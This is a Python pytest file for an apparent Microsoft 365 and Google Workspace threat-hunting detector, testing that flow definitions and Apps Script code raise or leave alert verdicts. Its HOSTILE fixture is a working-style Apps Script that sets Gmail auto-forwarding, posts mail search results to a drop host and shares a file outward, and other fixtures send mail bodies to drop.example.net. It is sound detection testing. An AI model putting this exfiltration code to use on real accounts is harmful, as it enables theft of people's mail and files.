"""Optional evidence: what flows and scripts are made to do raises verdicts, and nothing needs it.

Every Microsoft 365 and Workspace scenario runs as it is and with evidence: attacks fire either way
and never lower; look-alikes stay quiet though their flows and scripts are read.
"""

from __future__ import annotations

import pytest
from builders import m365
from builders import scenarios_m365 as office
from builders import scenarios_workspace as workspace
from builders import workspace as ws
from builders.evidence import (
    APPROVAL,
    ON_MAIL,
    PARTNER,
    SHARE,
    flow_definition,
    http,
    mail,
    script_content,
    script_process,
    summarised,
)
from builders.hunting import hunt
from builders.scenario import DAY, HOUR, MINUTE

LEADS_OUT = {"Condition": {"type": "If", "actions": {"HTTP": http("https://drop.example.net/in")}}}
PASSES_ON = {"Send": mail("drop@example.net", "@triggerOutputs()?['body/body']")}
CALLS_PARTNER = {**APPROVAL, "HTTP": http(f"https://{PARTNER}/orders", "@body('Start_approval')")}
HOSTILE = """
function go() {
  ScriptApp.newTrigger('go').forSpreadsheet(SpreadsheetApp.getActive()).onOpen().create();
  Gmail.Users.Settings.updateAutoForwarding({enabled: true, emailAddress: 'collector@example.org'}, 'me');
  UrlFetchApp.fetch('https://drop.example.org/in', {payload: GmailApp.search('invoice')});
  DriveApp.getFileById('1').addViewer('collector@example.org');
}
"""
FLOWS = (m365.FLOW, m365.OTHER_FLOW)


def _definitions(triggers, actions, *times):
    return [
        flow_definition(seconds, triggers, actions, flow_id=flow)
        for flow in FLOWS
        for seconds in times
    ]


def _scripts(records, code, *times):
    """Return the projects of all scripts and holders that the records name, and their runs."""
    ids = {
        (value["value"], record["id"].get("customerId", ""), record["actor"].get("email", ""))
        for record in records
        if "events" in record
        for event in record["events"]
        for value in event["parameters"]
        if value["name"] == "doc_id"
    }
    return [
        made
        for script, customer, user in sorted(ids)
        for seconds in times
        for made in (
            script_content(seconds, script, code, user=user, customer=customer),
            script_process(seconds + MINUTE, script, user=user, customer=customer),
        )
    ]


@pytest.mark.parametrize("attack", office.ATTACKS, ids=lambda attack: attack.id)
@pytest.mark.parametrize("actions", [APPROVAL, LEADS_OUT, PASSES_ON, {"Share": SHARE}])
def test_office_attack_fires_as_high_with_definitions(attack, actions):
    records = attack.build(attack.delay, False).records()
    plain = hunt(records)
    proven = hunt(records, _definitions(ON_MAIL, actions, HOUR))
    assert _highest(proven) >= _highest(plain)
    assert not proven.hunt.incomplete


@pytest.mark.parametrize("attack", workspace.ATTACKS, ids=lambda attack: attack.id)
def test_workspace_attack_fires_as_high_with_code(attack):
    records = attack.build(attack.delay, False).records()
    plain = hunt(records)
    proven = hunt(records, _scripts(records, HOSTILE, HOUR))
    assert _highest(proven) >= _highest(plain)
    assert not proven.hunt.incomplete


@pytest.mark.parametrize("quiet", office.QUIET, ids=lambda quiet: quiet.id)
@pytest.mark.parametrize("actions", [APPROVAL, CALLS_PARTNER], ids=["approval", "calls a partner"])
def test_office_look_alike_is_quiet_with_definitions(quiet, actions):
    times = range(-2 * DAY, 3 * DAY, 12 * HOUR)
    outcome = hunt(quiet.build(), _definitions(ON_MAIL, actions, *times))
    assert not outcome.alarms, outcome.alarms


@pytest.mark.parametrize("quiet", workspace.QUIET, ids=lambda quiet: quiet.id)
def test_workspace_look_alike_is_quiet_with_code_and_runs(quiet):
    records = quiet.build()
    code = "function onOpen() {}\nfunction fill() { UrlFetchApp.fetch('https://www.googleapis.com/x'); }"
    outcome = hunt(records, _scripts(records, code, *range(-2 * DAY, 3 * DAY, 12 * HOUR)))
    assert not outcome.alarms, outcome.alarms


def _highest(outcome):
    return max((finding.risk_score for finding in outcome.findings), default=0)


def _forwarded():
    return office.m03(10 * MINUTE, False).records()


def test_a_call_to_another_host_raises_the_forward():
    [finding] = hunt(_forwarded(), [flow_definition(HOUR, ON_MAIL, LEADS_OUT)]).alarms
    assert (finding.severity, finding.verdict) == (
        "critical",
        "forwarded_outside_and_flow_leads_out",
    )
    assert "definition, read at 2026-03-10T10:00:00" in finding.explanation
    assert "drop.example.net" in finding.explanation


@pytest.mark.parametrize(
    "other",
    [
        flow_definition(HOUR, ON_MAIL, LEADS_OUT, flow_id=m365.OTHER_FLOW),
        flow_definition(HOUR, ON_MAIL, LEADS_OUT, tenant=m365.OTHER_TENANT),
        flow_definition(2 * DAY, ON_MAIL, LEADS_OUT),
        flow_definition(HOUR, ON_MAIL, APPROVAL),
        summarised(flow_definition(HOUR, ON_MAIL, APPROVAL)),
    ],
    ids=["another flow", "another tenant", "outside the window", "leads nowhere", "summary"],
)
def test_other_definitions_change_no_verdict(other):
    [plain] = hunt(_forwarded()).alarms
    [finding] = hunt(_forwarded(), [other]).alarms
    assert finding.verdict == plain.verdict


@pytest.mark.parametrize(
    ("actions", "alarms"),
    [
        (PASSES_ON, 1),
        ({"Send": mail("drop@example.net")}, 0),
        ({"Send": mail("carol@example.com", "@triggerOutputs()?['body/body']")}, 0),
        ({"Send": mail("carol@mail.example.com", "@triggerOutputs()?['body/body']")}, 0),
    ],
    ids=["content to another domain", "a notice to another domain", "to a colleague", "subdomain"],
)
def test_incoming_mail_passed_on_is_a_finding_of_its_own(actions, alarms):
    """Graph activity is off: the definition alone shows where the mail is made to go."""
    flow = m365.flow(office.EVE, "CreateFlow", 0)
    found = hunt([flow], [flow_definition(HOUR, ON_MAIL, actions)]).alarms
    assert [finding.verdict for finding in found] == ["passes_mail_on_outside"] * alarms


def test_code_that_sets_forwards_raises_the_forward():
    records = [
        ws.create(workspace.EVE, workspace.SCRIPT, 0),
        ws.forward(workspace.EVE, 10 * MINUTE, workspace.OUTSIDE),
    ]
    read = script_content(HOUR, workspace.SCRIPT.doc_id, HOSTILE)
    [plain] = hunt(records).alarms
    [finding] = hunt(records, [read]).alarms
    assert (plain.severity, finding.severity) == ("high", "critical")
    assert "code, read at 2026-03-10T10:00:00" in finding.explanation


def test_simple_trigger_of_a_menu_raises_nothing():
    records = [
        ws.create(workspace.EVE, workspace.SCRIPT, 0),
        *(
            ws.share(workspace.EVE, ws.File(f"1File{n}", "Plan", "document", "eve@example.com"),
                     n * MINUTE, "customer@example.org") for n in range(1, 7)
        ),
    ]  # fmt: skip
    script = workspace.SCRIPT.doc_id
    read = [script_content(HOUR, script), script_process(HOUR, script)]
    assert not hunt(records, read).alarms
    started = hunt(records, [script_process(HOUR, script, "TRIGGER", function="go")]).alarms
    assert [finding.verdict for finding in started] == ["many_opened_by_self_starting_script"]
